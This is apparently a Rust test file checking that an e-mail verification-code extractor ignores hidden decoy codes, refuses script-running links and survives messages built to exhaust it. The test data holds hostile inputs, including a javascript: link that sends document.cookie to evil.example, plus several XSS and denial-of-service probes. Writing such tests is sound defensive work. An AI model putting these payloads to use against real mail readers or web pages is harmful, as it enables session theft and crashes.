//! A hostile e-mail's content against the real `latchkey mail-code` (the core's `mail` module, as the
//! extension's `mailRead` runs it): hidden or scripted text offering a code, links that run script,
//! and messages built to make the reader slow or crash. Each is refused.

use std::process::Output;

use crate::support::server::{latchkey_with, stderr, stdout};

fn mail_code(args: &[&str], raw: &[u8]) -> Output {
    let mut line = vec!["mail-code"];
    line.extend_from_slice(args);
    latchkey_with(&line, &[], raw)
}

fn html_mail(html: &str) -> Vec<u8> {
    format!(
        "From: Example <no-reply@example.com>\r\nSubject: Sign in\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
    .into_bytes()
}

/// A sender hides a code a person never sees (in a script, a style, a hidden element, a comment),
/// hoping it is filled instead of the one shown: only the visible code is taken.
#[test]
fn codes_in_scripts_styles_hidden_elements_and_comments_are_never_taken() {
    let raw = html_mail(
        "<script>var code = 'Your verification code is 111111';</script>\
         <style>/* Your verification code is 222222 */</style>\
         <div style=\"display: none\">Your verification code is 333333</div>\
         <span hidden>Your verification code is 444444</span>\
         <!-- Your verification code is 555555 -->\
         <table style=\"mso-hide:all\"><tr><td>Your verification code is 666666</td></tr></table>\
         <p>Hello.</p><p>Use this to sign in: <b>482913</b></p>",
    );
    let out = mail_code(&[], &raw);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "482913\n");

    // With nothing visible, nothing is taken.
    let hidden_only = html_mail("<div style='display:none'>Your verification code is 333333</div><p>Hello.</p>");
    let out = mail_code(&[], &hidden_only);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
}

/// A "Verify" button whose link runs script (`javascript:`, `data:`, `vbscript:`, a scheme in mixed
/// case or behind entities): never offered as a verification link; the https one is.
#[test]
fn links_that_are_not_http_are_never_offered() {
    let raw = html_mail(
        "<p>Your verification code is 482913.</p>\
         <a href=\"javascript:fetch('https://evil.example/?c='+document.cookie)\">Verify your email</a>\
         <a href=\" JaVaScRiPt:alert(1)\">Confirm your account</a>\
         <a href=\"&#106;avascript:alert(1)\">Activate</a>\
         <a href=\"data:text/html,<script>alert(1)</script>\">Sign in</a>\
         <a href=\"vbscript:msgbox(1)\">Verify</a>\
         <a href=\"https://example.com/verify?t=abc\">Verify your email</a>",
    );
    let out = mail_code(&["--json"], &raw);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let urls: Vec<&str> = v["links"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["url"].as_str().unwrap())
        .collect();
    assert_eq!(urls, ["https://example.com/verify?t=abc"]);
}

/// Messages built to exhaust the reader: thousands of unclosed hidden elements (each would be
/// searched to the end), parts nested hundreds deep, a body of one endless line, and thousands of
/// links. Each is answered (a code or none), never a crash or a hang.
#[test]
fn messages_built_to_exhaust_the_reader_are_answered() {
    let unclosed = html_mail(&format!(
        "{}<p>Your verification code is 482913</p>",
        "<div hidden>x ".repeat(200_000)
    ));
    let out = mail_code(&[], &unclosed);
    assert!(
        out.status.code() == Some(0) || out.status.code() == Some(1),
        "{}",
        stderr(&out)
    );

    let mut nested = String::from("From: a@example.com\r\nSubject: code\r\nMIME-Version: 1.0\r\n");
    for i in 0..500 {
        nested.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n"
        ));
    }
    nested.push_str("Content-Type: text/plain\r\n\r\nYour verification code is 482913\r\n");
    let out = mail_code(&[], nested.as_bytes());
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));

    let line = format!(
        "From: a@example.com\r\nSubject: x\r\n\r\n{}",
        "9".repeat(8 * 1024 * 1024)
    );
    let out = mail_code(&[], line.as_bytes());
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));

    let links =
        html_mail(&"<a href=\"https://example.com/verify\">Verify</a> https://example.com/confirm ".repeat(50_000));
    let out = mail_code(&["--json"], &links);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
}
